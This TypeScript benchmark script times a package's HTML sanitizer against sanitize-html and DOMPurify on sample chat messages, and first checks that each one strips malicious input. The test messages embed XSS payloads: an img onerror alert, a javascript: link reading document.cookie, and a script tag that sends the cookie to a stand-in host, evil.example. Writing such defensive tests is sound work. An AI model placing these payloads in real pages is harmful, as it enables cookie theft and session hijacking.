/**
 * Side by side, in one process: `sanitizeRichText` of this package (built dist/) against
 * bare sanitize-html with the same allow-list (what our own passes cost on top of it) and
 * DOMPurify over a jsdom window configured for the same policy (same elements, `href` and
 * `rel` only, absolute http/https/mailto links, `rel` forced by a hook), on typical chat
 * messages of about 200 and 5,000 characters: a few tags, links, and one malicious bit each.
 * One message at a time (sanitizing is synchronous CPU work).
 *
 * Run: npm run bench -w @switchboard/validation
 */
import os from 'node:os';
import { compare, type Measurement } from '@switchboard/bench';
// By package name: the built dist/ that users install.
import {
  DROPPED_WITH_CONTENT,
  LINK_PROTOCOLS,
  LINK_REL,
  MAX_NESTING,
  RICH_TEXT_TAGS,
  sanitizeRichText,
} from '@switchboard/validation';
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import sanitizeHtml from 'sanitize-html';

const DURATION_MS = Number(process.env.BENCH_DURATION_MS ?? 1_500);
const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 3);

const purify = createDOMPurify(new JSDOM('').window);
purify.addHook('afterSanitizeAttributes', (node) => {
  if (node.nodeName === 'A') {
    if (node.hasAttribute('href')) node.setAttribute('rel', LINK_REL);
    else node.removeAttribute('rel');
  }
});
const purifyConfig = {
  ALLOWED_TAGS: [...RICH_TEXT_TAGS],
  ALLOWED_ATTR: ['href', 'rel'],
  ALLOWED_URI_REGEXP: /^(?:https?:\/\/|mailto:)/i,
  ALLOW_DATA_ATTR: false,
};
const dompurify = (html: string) => purify.sanitize(html, purifyConfig) as string;

// sanitize-html alone, with the allow-list sanitizeRichText gives it (elements, attributes,
// schemes, elements dropped with their content, nesting limit, `rel` forced on links), but
// none of our own passes: URL parsing, credential check, idempotence settling, NFC and
// unsafe-character filtering.
const bareOptions: sanitizeHtml.IOptions = {
  allowedTags: [...RICH_TEXT_TAGS],
  allowedAttributes: { a: ['href', 'rel'] },
  allowedSchemes: LINK_PROTOCOLS.map((protocol) => protocol.slice(0, -1)),
  allowedSchemesAppliedToAttributes: ['href'],
  allowProtocolRelative: false,
  selfClosing: ['br'],
  disallowedTagsMode: 'discard',
  nonTextTags: [...DROPPED_WITH_CONTENT],
  parseStyleAttributes: false,
  nestingLimit: MAX_NESTING,
  transformTags: { a: sanitizeHtml.simpleTransform('a', { rel: LINK_REL }) },
};
const bare = (html: string) => sanitizeHtml(html, bareOptions);

const short =
  '<p>Hey <b>team</b>, deploy is done: <a href="https://ci.example.com/runs/4821" target="_blank">run 4821</a>. ' +
  'Check <code>api/v2</code> &amp; ping me <img src=x onerror=alert(1)> if <i>anything</i> breaks 🙏</p>';
const paragraph = (i: number) =>
  `<p>Update ${i}: the <strong>migration</strong> for <code>messages_${i}</code> finished in ${i * 7} ms. ` +
  `Details in <a href="https://wiki.example.com/ops/runbook-${i}">the runbook</a> and the ` +
  `<a href="mailto:oncall@example.com">on-call inbox</a>. <em>Note:</em> replicas caught up &lt; 1 s later.<br>` +
  `Thanks to everyone who helped — especially <b>Zoé</b> and <b>Max</b>!</p>`;
const long = [
  ...Array.from({ length: 7 }, (_, i) => paragraph(i)),
  '<pre><code>SELECT id, content FROM messages WHERE chat_id = $1 ORDER BY seq DESC LIMIT 50;</code></pre>',
  '<p>Suspicious link someone pasted: <a href="javascript:alert(document.cookie)">click</a> ' +
    '<svg onload=alert(1)><script>fetch("https://evil.example/?c="+document.cookie)</script></svg></p>',
  ...Array.from({ length: 7 }, (_, i) => paragraph(i + 7)),
].join('\n');

// Both must neutralize the malicious bits, or the comparison means nothing.
for (const [name, sanitize] of [
  ['ours', sanitizeRichText],
  ['sanitize-html', bare],
  ['dompurify', dompurify],
] as const) {
  for (const html of [short, long]) {
    const output = sanitize(html);
    if (/onerror|onload|javascript:|<script|<svg|<img/i.test(output))
      throw new Error(`${name} left something: ${output}`);
    if (!output.includes(`rel="${LINK_REL}"`)) throw new Error(`${name} did not force rel`);
  }
}

const OURS = '**@switchboard/validation** `sanitizeRichText`';
const rows: string[] = [];
const fmt = (n: number) => Math.round(n).toLocaleString('en-US');
for (const [label, html] of [
  [`~200 chars (${[...short].length})`, short],
  [`~5,000 chars (${[...long].length})`, long],
] as const) {
  const results: Record<string, Measurement> = await compare(
    {
      [OURS]: async () => sanitizeRichText(html),
      'sanitize-html 2, same allow-list': async () => bare(html),
      'DOMPurify 3 + jsdom': async () => dompurify(html),
    },
    { concurrency: 1, durationMs: DURATION_MS, rounds: ROUNDS, warmupMs: 500 },
  );
  const ours = results[OURS] as Measurement;
  for (const [name, m] of Object.entries(results)) {
    const ratio = m === ours ? '' : `${(ours.opsPerSec / m.opsPerSec).toFixed(2)}×`;
    rows.push(
      `| ${label} | ${name} | ${fmt(m.opsPerSec)} | ${m.p50Ms.toFixed(4)} | ${m.p99Ms.toFixed(4)} | ${ratio} |`,
    );
  }
}

const cpu = os.cpus()[0]?.model ?? 'unknown CPU';
console.log(
  `${new Date().toISOString().slice(0, 10)}, Node ${process.version}, ${os.cpus().length} cores (${cpu}), shared, ` +
    `median of ${ROUNDS} interleaved ${DURATION_MS / 1000} s rounds after a 0.5 s warm-up each, one message at a time\n`,
);
console.log('| message | implementation | messages/s | p50 ms | p99 ms | ours ÷ this |');
console.log('| --- | --- | ---: | ---: | ---: | ---: |');
for (const row of rows) console.log(row);

// Wall-clock rates on a shared machine move with whatever else runs. The CPU time this process
// spends per message moves much less: ours and bare sanitize-html (the pair the issue 20 target
// compares), in short batches taken in turn, each side's median batch.
const CPU_ROUNDS = Number(process.env.BENCH_CPU_ROUNDS ?? 150);
const cpuMicros = (run: () => unknown, batch: number) => {
  const start = process.cpuUsage();
  for (let i = 0; i < batch; i++) run();
  const used = process.cpuUsage(start);
  return (used.user + used.system) / batch;
};
const median = (values: number[]) => [...values].sort((a, b) => a - b)[values.length >> 1] ?? 0;
console.log(`\nCPU time per message, median of ${CPU_ROUNDS} interleaved batches\n`);
console.log('| message | `sanitizeRichText` µs | sanitize-html µs | ours ÷ sanitize-html |');
console.log('| --- | ---: | ---: | ---: |');
for (const [label, html, batch] of [
  [`~200 chars (${[...short].length})`, short, 200],
  [`~5,000 chars (${[...long].length})`, long, 10],
] as const) {
  const ours: number[] = [];
  const theirs: number[] = [];
  for (let round = 0; round < CPU_ROUNDS; round++) {
    ours.push(cpuMicros(() => sanitizeRichText(html), batch));
    theirs.push(cpuMicros(() => bare(html), batch));
  }
  const [a, b] = [median(ours), median(theirs)];
  console.log(`| ${label} | ${a.toFixed(1)} | ${b.toFixed(1)} | ${(b / a).toFixed(2)}× |`);
}
